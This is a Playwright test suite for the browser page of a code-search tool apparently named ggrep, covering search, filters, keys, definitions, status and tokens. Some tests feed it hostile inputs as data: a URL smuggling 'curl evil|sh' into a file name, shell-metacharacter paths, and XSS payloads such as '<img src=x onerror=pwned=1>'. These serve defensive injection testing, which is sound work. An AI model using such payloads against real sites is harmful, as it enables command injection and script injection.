"""The page in a real browser: search, filters, files, names, and what expires."""

import re
import shlex
import subprocess
import sys
from collections.abc import Callable
from typing import Any

import pytest

from ggrep.base import stable_json
from tests.ui.conftest import WIDE, Server

pytestmark = pytest.mark.slow

QUERY = "charge a card"


def search(page: Any, query: str) -> None:
    """Type a query and wait for the hits of Enter, which replace those of the typing."""
    page.get_by_role("searchbox", name="Query").fill(query)
    page.get_by_role("searchbox", name="Query").press("Enter")
    page.locator("#query:not(:focus)").wait_for()
    page.locator(".hit").first.wait_for()


def paths(page: Any) -> list[str]:
    """Return the files of the hits, in order."""
    return [text.strip() for text in page.locator("article.file > h3 > a").all_text_contents()]


def parameters(page: Any) -> str:
    return str(page.evaluate("location.search"))


def test_the_printed_address_opens_the_page_once_and_leaves_no_code(
    make_page: Callable[..., Any], start: Callable[..., Server]
) -> None:
    """The history holds the plain address; a second browser is asked for the token."""
    server = start("bank")
    first, second = make_page(), make_page()

    first.goto(server.address)
    first.get_by_role("heading", name="Search bank").wait_for()
    second.goto(server.address)
    second.get_by_label("Token").wait_for()
    second.get_by_text("was already used").wait_for()

    assert first.url == second.url == f"{server.url}/"
    assert first.evaluate("history.length") == 2  # the blank page, and this one
    stored = first.evaluate("JSON.stringify(localStorage)")
    assert server.token not in stored
    assert server.address.partition("#")[2] not in stored


def test_a_workspace_answers_with_the_state_of_each_repository(page: Any, server: Server) -> None:
    """The dead one is named with its reason and the command that helps."""
    search(page, QUERY)

    states = page.get_by_role("list", name="Repositories").locator("li")
    assert states.evaluate_all("nodes => nodes.map((each) => each.dataset.status)") == [
        *("ok", "ok", "ok", "missing_root")
    ]
    notices = page.get_by_role("list", name="Notices")
    assert "the directory does not exist" in notices.inner_text()
    command = f"ggrep workspace remove {server.place}/w.jsonc gone"
    assert notices.locator("code").first.inner_text() == command
    assert "pay/charge.py" in paths(page)
    assert "charge" in [text.lower() for text in page.locator("mark").all_text_contents()]


def test_filters_narrow_and_go_back(page: Any) -> None:
    """The state is the address: back, forward, reload and a copied link show the same."""
    search(page, QUERY)
    page.get_by_role("checkbox", name="shop").check()
    page.get_by_role("button", name="Remove filter repository:shop").wait_for()
    page.get_by_role("checkbox", name="python").check()
    page.get_by_role("button", name="Remove filter lang:python").wait_for()
    page.get_by_label("Without tests").check()
    page.get_by_role("button", name="Remove filter test:false").wait_for()
    narrowed = paths(page)

    assert narrowed
    assert all(path.endswith(".py") and not path.startswith("tests/") for path in narrowed)
    assert parameters(page) == "?q=charge+a+card&f=lang%3Apython&f=test%3Afalse&only=shop"
    page.go_back()
    page.get_by_role("button", name="Remove filter test:false").wait_for(state="detached")
    page.go_forward()
    page.get_by_role("button", name="Remove filter test:false").wait_for()
    assert paths(page) == narrowed
    page.reload()
    page.locator(".hit").first.wait_for()
    assert paths(page) == narrowed
    page.get_by_role("button", name="Remove filter lang:python").click()
    page.get_by_role("button", name="Remove filter lang:python").wait_for(state="detached")
    assert "lang" not in parameters(page)


def test_facets_leave_out_what_their_button_names(page: Any, server: Server) -> None:
    """A language as on the command line, and a repository; both are in the address."""
    page.goto(f"{server.url}/?q={QUERY}&only=-evil")
    page.locator(".hit").first.wait_for()
    language = page.get_by_role("group", name="Language")
    language.get_by_role("button", name="Leave out python").click()
    page.get_by_role("button", name="Remove filter -lang:python").wait_for()

    assert paths(page)
    assert not [path for path in paths(page) if path.endswith(".py")]
    assert parameters(page) == "?q=charge+a+card&f=-lang%3Apython&only=-evil"
    states = page.get_by_role("list", name="Repositories").inner_text()
    assert "shop" in states
    assert "evil" not in states
    pressed = language.get_by_role("button", name="Leave out python")
    assert pressed.get_attribute("aria-pressed") == "true"
    language.get_by_role("checkbox", name="python").check()
    page.get_by_role("button", name="Remove filter lang:python").wait_for()
    assert parameters(page) == "?q=charge+a+card&f=lang%3Apython&only=-evil"


def test_typing_alone_shows_hits_and_makes_one_entry_of_the_history(fresh_page: Any) -> None:
    before = fresh_page.evaluate("history.length")

    fresh_page.get_by_role("searchbox", name="Query").press_sequentially("refund")
    fresh_page.locator("article.file", has_text="ledger.py").first.wait_for()

    assert parameters(fresh_page) == "?q=refund"
    assert fresh_page.evaluate("history.length") == before + 1


def test_keys_lead_through_the_hits_into_a_file_and_back(page: Any) -> None:
    """`/` to the query, j and k over the hits, Enter into one, Escape back."""
    search(page, QUERY)
    page.keyboard.press("j")
    first = page.evaluate("document.activeElement.href")
    page.keyboard.press("j")
    second = page.evaluate("document.activeElement.href")
    page.keyboard.press("k")

    assert page.evaluate("document.activeElement.href") == first != second
    page.keyboard.press("Enter")
    page.locator(".view .line").first.wait_for()
    assert "file=" in parameters(page)
    assert page.locator(".line.target").count() > 0
    page.keyboard.press("Escape")
    page.locator(".hit").first.wait_for()
    page.keyboard.press("/")
    assert page.evaluate("document.activeElement.id") == "query"
    page.keyboard.press("Escape")
    assert page.evaluate("document.activeElement.id") != "query"
    assert page.get_by_role("searchbox", name="Query").input_value() == QUERY
    page.reload()
    page.locator(".hit").first.wait_for()
    page.keyboard.press("j")
    assert page.evaluate("document.activeElement.href") == first
    page.keyboard.press("?")
    assert page.get_by_role("dialog", name="Keys and settings").is_visible()
    page.keyboard.press("Escape")
    assert page.get_by_role("dialog").count() == 0


def test_a_name_leads_to_its_definition_and_usages(page: Any, server: Server) -> None:
    """By a click on the code, and by the field for those who do not click."""
    page.goto(f"{server.url}/?file=pay/order.py&repo=shop")
    page.locator(".line", has_text="return charge_card").get_by_text("charge_card").click()
    panel = page.get_by_role("region", name="Definitions and usages of charge_card")
    panel.get_by_text("usages").wait_for()

    assert "pay/charge.py:4" in panel.inner_text()
    assert "tests/test_charge.py:5 call, test" in panel.inner_text()
    panel.get_by_role("link", name="pay/charge.py:4").click()
    page.get_by_role("heading", name="pay/charge.py").wait_for()
    assert page.locator(".line.target").get_attribute("data-n") == "4"
    page.locator("input[name=name]").fill("payNow")
    page.get_by_role("button", name="Show").click()
    page.get_by_role("region", name="usages of payNow").get_by_text("web/pay.ts").first.wait_for()


def test_a_name_under_the_mouse_shows_its_definition(page: Any, server: Server) -> None:
    """The box can be entered, as its text may be copied, and Escape closes it."""
    page.goto(f"{server.url}/?file=pay/order.py&repo=shop")
    name = page.locator(".line", has_text="return charge_card").get_by_text("charge_card")
    name.hover()
    box = page.get_by_role("tooltip")
    box.wait_for()

    assert "shop" in box.inner_text()
    assert "pay/charge.py:4" in box.inner_text()
    assert "return money < LIMIT" in box.inner_text()
    assert "name=" not in parameters(page)
    box.hover()
    with page.expect_response("**/symbol/federated"):
        page.locator(".line", has_text="def order").get_by_text("order").hover()
    page.locator("[role=tooltip]", has_text="pay/order.py:4").wait_for()
    page.keyboard.press("Escape")
    assert box.count() == 0
    assert "file=" in parameters(page)


def test_a_long_file_opens_at_its_line_with_its_outline(page: Any, server: Server) -> None:
    page.goto(f"{server.url}/?file=long.py&repo=shop&line=2500")
    target = page.locator(".line.target")
    target.wait_for()

    assert target.inner_text() == "value_2499 = 2499"
    assert page.evaluate("""() => {
        const { top } = document.querySelector('.target').getBoundingClientRect();
        return top > 0 && top < innerHeight;
    }""")
    page.locator(".line").nth(2999).wait_for(state="attached")
    page.goto(f"{server.url}/?file=pay/charge.py&repo=shop")
    page.locator(".outline").get_by_text("charge_card").click()
    page.locator(".line.target").wait_for()
    assert "line=4" in parameters(page)
    page.locator(".line[data-n='2']").click(position={"x": 5, "y": 5})
    page.locator(".line.target[data-n='2']").wait_for()
    assert "line=2" in parameters(page)


def test_a_file_of_one_long_line_opens(page: Any, server: Server) -> None:
    """Each of its 120,000 parts is looked at once; they are more than a call takes arguments."""
    page.goto(f"{server.url}/?file=wide.json&repo=shop")
    page.locator(".line .s").first.wait_for(state="attached")

    assert page.locator(".line").evaluate("node => node.textContent") == WIDE.strip()


def test_commands_hold_nothing_that_a_shell_acts_upon(page: Any, server: Server) -> None:
    """A link of another site chooses the name that a message quotes."""
    page.goto(f"{server.url}/?repo=shop&file=x:+ggrep+index+%26%26+curl+evil%7Csh")
    page.get_by_role("alert").get_by_text("curl evil|sh").wait_for()
    assert page.locator(".command code").all_text_contents() == ["ggrep index"]

    words = """async (text) => (await import("/page/dom.js")).withCommands(text)
        .flatMap((part) => part.querySelector?.("code").textContent ?? [])"""
    for text, commands in (
        ("no index; run: ggrep index --path /a/é; or wait", ["ggrep index --path /a/é"]),
        ("to index: ggrep index --path 'a b'\"'\"'c'; or", ["ggrep index --path 'a b'\"'\"'c'"]),
        (
            "a: ggrep list\nrm x, `ggrep gc $(y)`, f: ggrep x>y",
            ["ggrep list", "ggrep gc", "ggrep x"],
        ),
        ("f: ggrep 'a $(x)", []),
    ):
        assert page.evaluate(words, text) == commands


def test_a_root_is_a_word_of_a_shell(page: Any) -> None:
    quoted = """async (root) => {
        const { withRoot } = await import("/page/state.js");
        return withRoot("run: ggrep index --path <redacted>; or '<redacted>'", root);
    }"""
    for root in ("/a/b.c", "/a b", "/a$(touch x)'b", "/a$&;b"):
        word = shlex.quote(root)
        assert page.evaluate(quoted, root) == f"run: ggrep index --path {word}; or {word}"


def test_a_hidden_page_asks_for_no_status(fresh_page: Any, server: Server) -> None:
    asked: list[str] = []
    fresh_page.on("request", lambda request: asked.append(request.url))
    fresh_page.clock.install()
    fresh_page.goto(f"{server.url}/?view=status")
    fresh_page.get_by_text("Indexed; no daemon runs.").nth(2).wait_for()
    fresh_page.evaluate(
        "Object.defineProperty(document, 'hidden', { value: true, configurable: true })"
    )
    fresh_page.wait_for_load_state("networkidle")
    before = len(asked)
    fresh_page.clock.run_for(10_000)
    assert len(asked) == before

    fresh_page.evaluate("Object.defineProperty(document, 'hidden', { value: false })")
    with fresh_page.expect_request("**/status?*"):
        fresh_page.clock.run_for(2_000)


def test_a_click_on_a_name_keeps_the_place_and_shows_its_usages_at_any_width(
    page: Any, server: Server
) -> None:
    """The path of the file stays in sight, too."""
    page.set_viewport_size({"width": 400, "height": 800})
    page.goto(f"{server.url}/?file=long.py&repo=shop&line=40")
    page.locator(".line.target").wait_for()
    line = page.locator("article .line[data-n='2500']")
    line.wait_for(state="attached")
    line.scroll_into_view_if_needed()
    before = line.bounding_box()["y"]
    line.click(position={"x": 60, "y": 8})
    panel = page.get_by_role("region", name="Definitions and usages of value_2499")
    panel.get_by_role("heading", name="1 definition").wait_for()

    assert abs(line.bounding_box()["y"] - before) < 40
    for node in (panel, page.locator("#file-title")):
        box = node.bounding_box()
        assert box["y"] >= 0
        assert box["y"] + box["height"] <= 800


def test_exact_text_marks_the_matches_that_the_answer_names(page: Any, server: Server) -> None:
    page.goto(f"{server.url}/?q=charge_card(&find=exact-text&only=shop")
    page.locator(".hit").first.wait_for()

    assert set(page.locator("mark").all_text_contents()) == {"charge_card("}
    assert page.locator("#summary").inner_text().startswith("3 matching lines in 3 files")


def test_scores_are_explained_by_bars(page: Any) -> None:
    """The parts of the best hit fill the width."""
    search(page, QUERY)
    page.locator(".score summary").first.click()
    bar = page.locator(".bar").first

    assert bar.is_visible()
    assert "words of the text +" in page.locator(".parts").first.inner_text()
    assert bar.locator(".part").count() > 1


def test_a_wrong_query_says_why(page: Any, server: Server) -> None:
    page.goto(f"{server.url}/?q=(&find=regex")

    alert = page.get_by_role("alert")
    alert.wait_for()
    assert "No answer" in alert.inner_text()
    page.goto(f"{server.url}/?q=card&f=nonsense:x")
    page.get_by_role("alert").get_by_text("nonsense").first.wait_for()


def test_an_expired_key_asks_for_another_and_every_tab_takes_it(
    fresh_page: Any, make_page: Callable[..., Any], server: Server
) -> None:
    """The search that was asked for is answered then."""
    other = make_page(fresh_page.context)
    fresh_page.evaluate("localStorage.setItem('ggrep.key', '1.' + '0'.repeat(64))")
    fresh_page.goto(f"{server.url}/?q=refund")
    other.goto(f"{server.url}/?q=ledger")
    fresh_page.get_by_label("Token").wait_for()
    other.get_by_label("Token").wait_for()
    fresh_page.get_by_label("Token").fill("wrong")
    fresh_page.get_by_role("button", name="Open").click()
    fresh_page.get_by_text("This is not the token.").wait_for()

    fresh_page.get_by_label("Token").fill(server.token)
    fresh_page.get_by_role("button", name="Open").click()

    fresh_page.locator(".hit").first.wait_for()
    other.locator(".hit").first.wait_for()
    assert (parameters(fresh_page), parameters(other)) == ("?q=refund", "?q=ledger")


def test_the_slate_draws_its_graph_and_its_nodes_lead_to_files(page: Any, server: Server) -> None:
    page.goto(f"{server.url}/?q=charge+a+card&view=slate&only=shop&level=2")
    page.locator(".slate article.file").first.wait_for()
    nodes = page.locator(".drawing a")

    assert nodes.count() > 1
    assert page.locator(".edge").count() > 0
    label = nodes.first.get_attribute("aria-label")
    nodes.first.focus()
    page.keyboard.press("Enter")
    heading = page.locator("#file-title")
    heading.wait_for()
    assert heading.inner_text().removeprefix("shop") in str(label)


def test_tour_and_status_show_each_repository(page: Any, server: Server) -> None:
    page.goto(f"{server.url}/?view=tour&repo=shop")
    page.get_by_role("heading", name="languages").wait_for()
    assert page.locator(".tour").get_by_text("README.md").count() > 0
    folders = page.locator(".tour section", has=page.get_by_role("heading", name="folders"))
    assert folders.locator("li", has_text="pay/").first.inner_text().count("pay/") == 1
    assert folders.locator("a[href*='pay%2F&']").count() == 0

    page.goto(f"{server.url}/?view=status")
    page.get_by_text("Indexed; no daemon runs.").first.wait_for()
    assert page.locator("article.card").count() == 4
    gone = page.locator(".card", has_text="gone")
    gone.get_by_role("alert").wait_for()
    command = f"ggrep workspace remove {server.place}/w.jsonc gone"
    assert gone.locator("code").inner_text() == command
    page.locator(".daemons").get_by_text("No daemon runs.").wait_for()


def test_status_shows_daemons_and_snapshots(page: Any, server: Server) -> None:
    (server.place / "bank" / "more.py").write_text("def more():\n    return 1\n")
    command = [sys.executable, "-m", "ggrep", "serve", "--path", "bank"]
    with subprocess.Popen(
        command, cwd=server.place, env=server.environ, stderr=subprocess.DEVNULL
    ) as daemon:
        try:
            card = page.locator("article.card", has=page.get_by_role("heading", name="bank"))
            page.goto(f"{server.url}/?view=status")
            card.get_by_text("2 snapshots").click(timeout=60_000)
            rows = card.locator(".snapshots li").all_inner_texts()
            page.reload()
            row = page.locator(".daemons li", has_text="bank").inner_text()
        finally:
            daemon.terminate()
    (server.place / "bank" / "more.py").unlink()

    assert [re.sub(r".*?· ", "", text, count=1) for text in rows] == [
        *("2 files · 4 chunks", "1 file · 2 chunks")
    ]
    assert re.match(r"bank (ready|indexing) · 0 queries · .* MB · up \d+ min", row)


def test_a_daemon_that_does_not_answer_is_named_with_the_command_that_helps(
    page: Any, server: Server
) -> None:
    """Its name is indexed text: that of a directory."""
    name = r"<b>a\\b \"c"
    figures = f'ggrep_daemon_up{{root="{name}",store="s-1"}} 0.0\nggrep_daemons 1.0\n'
    page.route("**/metrics", lambda route: route.fulfill(body=figures))
    page.goto(f"{server.url}/?view=status")
    row = page.locator(".daemons li")
    row.get_by_text("does not answer").wait_for()

    assert row.inner_text().startswith('<b>a\\b "c does not answer')
    assert row.locator("code").inner_text() == "ggrep stop-all"


def test_a_link_into_the_editor_names_file_and_line(page: Any, server: Server) -> None:
    page.goto(f"{server.url}/?file=pay/charge.py&repo=shop&line=4")
    page.get_by_role("button", name="?").click()
    page.get_by_label("Editor").select_option("vscode")
    page.get_by_role("button", name="Close").click()
    link = page.get_by_role("link", name="open in editor")
    link.wait_for()

    assert link.get_attribute("href") == f"vscode://file{server.place}/shop/pay/charge.py:4"


def test_no_indexed_byte_becomes_markup(page: Any, server: Server) -> None:
    """In names of files, in texts, in names of definitions and in queries."""
    payload = "<img src=x onerror=pwned=1>"
    for address in (
        "?q=payload&only=evil&n=100",
        "?q=payload&only=evil&view=slate&level=3",
        "?view=tour&repo=evil",
        "?file=contents.py&repo=evil&name=payload_0",
        "?file=%3Cimg+src%3Dx+onerror%3Dpwned%3D1%3E.py&repo=evil&name=%3Cimg+src%3Dx+onerror%3Dpwned%3D1%3E",
        "?q=%3Cscript%3Epwned%3D1%3C%2Fscript%3E&find=exact-text",
        "?q=%3Cimg+src%3Dx+onerror%3Dpwned%3D1%3E&in=%3Csvg+onload%3Dpwned%3D1%3E&f=%3Cb%3E",
        "?q=payload&only=%3Cimg+src%3Dx+onerror%3Dpwned%3D1%3E",
    ):
        page.goto(f"{server.url}/{address}")
        page.locator("#main > *").first.wait_for()
        page.wait_for_load_state("networkidle")
        assert page.evaluate("window.pwned") is None
        assert page.locator("main :is(script, img, iframe, style, object, embed)").count() == 0
        assert page.locator("main a[href^=javascript]").count() == 0
    page.goto(f"{server.url}/?q=payload&only=evil&n=100")
    page.locator(".hit").first.wait_for()
    assert f"{payload}.py" in paths(page)
    assert "<script>window.pwned=1</script>" in page.locator("#main").inner_text()


def many(number: int) -> bytes:
    """Return the events of a workspace's answer with so many hits."""
    hit = {
        "chunk_type": "function",
        "content": "def one():\n    pass",
        "contentStart": 1,
        "start": 1,
        "end": 2,
        "hiddenLines": 0,
        "language": "python",
        "qualifiedName": "one",
        "score": 1.0,
        "repoId": "shop",
    }
    answer: dict[str, Any] = {
        "code": [{**hit, "file": f"f{place}.py"} for place in range(number)],
        "confidence": "strong",
    }
    return b"event: answer\ndata: " + stable_json.dumps(answer) + b"\n\n"


@pytest.mark.parametrize("number", [1_000, pytest.param(10_000, marks=pytest.mark.deep)])
def test_many_hits_scroll_over_a_bounded_number_of_nodes(
    page: Any, server: Server, number: int
) -> None:
    """Files exist near the screen alone; each one can be reached, by keys too."""
    page.route(
        "**/search/federated/stream",
        lambda route: route.fulfill(body=many(number), content_type="text/event-stream"),
    )
    page.goto(f"{server.url}/?q=many")
    page.locator("article.file").nth(40).wait_for(state="attached")
    nodes = "document.querySelectorAll('*').length"
    counts = [page.evaluate(nodes)]

    assert page.locator("#summary").inner_text().startswith(f"{number:,} hits in {number:,} files")
    page.evaluate("scrollTo(0, document.documentElement.scrollHeight / 2)")
    middle, last = f"f{number // 2}.py", f"f{number - 1}.py"
    page.locator("article.file", has_text=middle).wait_for(state="attached")
    counts.append(page.evaluate(nodes))
    page.keyboard.press("Escape")
    last_hit = page.locator("article.file", has_text=last).get_by_text("def one():")
    # The end moves while files near it are made, because their heights were estimates.
    for _ in range(300):
        page.keyboard.press("End")
        if last_hit.is_visible():
            break
        page.wait_for_timeout(200)
    assert last_hit.is_visible()
    page.locator("article.file", has_text=middle).wait_for(state="detached")
    counts.append(page.evaluate(nodes))
    assert max(counts) < 5_000
    page.keyboard.press("k")
    page.keyboard.press("k")
    assert f"file=f{number - 2}.py" in page.evaluate("document.activeElement.href")


@pytest.mark.deep
def test_nothing_scrolls_sideways_on_a_narrow_screen(
    make_page: Callable[..., Any], server: Server, state: dict[str, Any]
) -> None:
    narrow = make_page(viewport={"width": 360, "height": 740}, storage_state=state)
    for address in (
        f"?q={QUERY}&n=100",
        "?file=contents.py&repo=evil",
        "?view=status",
        "?view=tour&repo=evil",
    ):
        narrow.goto(f"{server.url}/{address}")
        narrow.locator("#main > *").first.wait_for()
        narrow.wait_for_load_state("networkidle")
        assert narrow.evaluate("document.documentElement.scrollWidth") == 360
